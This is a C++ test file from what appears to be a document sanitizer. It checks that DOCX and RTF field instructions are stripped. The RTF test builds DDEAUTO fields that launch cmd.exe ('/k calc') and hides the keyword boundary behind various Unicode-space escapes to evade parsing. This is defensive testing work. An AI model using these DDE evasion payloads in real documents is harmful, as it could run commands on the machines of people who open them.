  for (const auto& [element, pieces] : cases) {
    INFO(element << " " << pieces.front());
    Outcome o = runDocx(field(element, pieces));
    INFO(findingsText(o));
    REQUIRE(o.verdict == Verdict::Modified);
    std::string doc = zipMemberText(o.replacement->data, "word/document.xml");
    CHECK(doc.find("InstrText") == std::string::npos);
    CHECK(doc.find("instrText") == std::string::npos);
    CHECK(doc.find("RESULT") != std::string::npos);
  }
}

// The red team's return: other Unicode spaces after the keyword (\uN with N an em, narrow
// no-break or ideographic space) were dropped by the RTF reader, so "DDEAUTO\u8195?cmd" read as
// one word; they now reach the shared tokenizer as UTF-8. The NBSP and \tab rows passed before.
TEST_CASE("rtf: DDE after any Unicode space written as \\uN goes", "[rtf][adversarial][redteam10]") {
  for (const char* sep : {"\\u8195?", "\\u8239?", "\\u12288?", "\\u8287?", "\\u160?", "\\tab ", "\\emspace "}) {
    std::string field = std::string("{\\field{\\*\\fldinst DDEAUTO") + sep +
                        "c:\\\\\\\\windows\\\\\\\\system32\\\\\\\\cmd.exe \"/k calc\"}{\\fldrslt SHOWN}}";
    INFO(field);
    auto r = sanitizers::rtf::rebuildRtf("{\\rtf1\\ansi " + field + "\\par}", {}, nullptr);
    REQUIRE(r.ok);
    CHECK(r.rtf.find("fldinst") == std::string::npos);
    CHECK(r.rtf.find("SHOWN") != std::string::npos);
  }
}
